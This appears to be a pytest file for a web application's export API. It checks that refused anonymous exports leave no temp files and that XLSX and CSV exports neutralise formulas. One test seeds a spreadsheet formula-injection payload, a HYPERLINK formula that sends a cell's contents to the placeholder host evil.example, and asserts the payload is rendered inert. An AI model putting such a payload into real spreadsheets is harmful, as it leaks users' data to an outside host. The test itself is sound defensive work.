"""Export over HTTP (issue 12 item 2): refusals leave nothing on disk, cells are inert."""

from __future__ import annotations

import io
import tempfile

import openpyxl

from .conftest import create_row


def test_refused_exports_leave_no_temporary_directory(env, tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    anonymous = env.client()
    statuses = [anonymous.get("/api/v1/programme/export", params={"type": "besoins"}).status_code for _ in range(20)]
    assert statuses == [401] * 20
    assert list(tmp_path.glob("vigie-export-*")) == []


def test_exported_xlsx_has_no_formula(env):
    create_row(env.store, "missions", "own", intitule='=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")')
    r = env.client("admin").get("/api/v1/programme/export", params={"type": "missions", "format": "xlsx"})
    assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    csv_text = env.client("admin").get("/api/v1/programme/export", params={"type": "missions"}).text
    assert "'=HYPERLINK" in csv_text
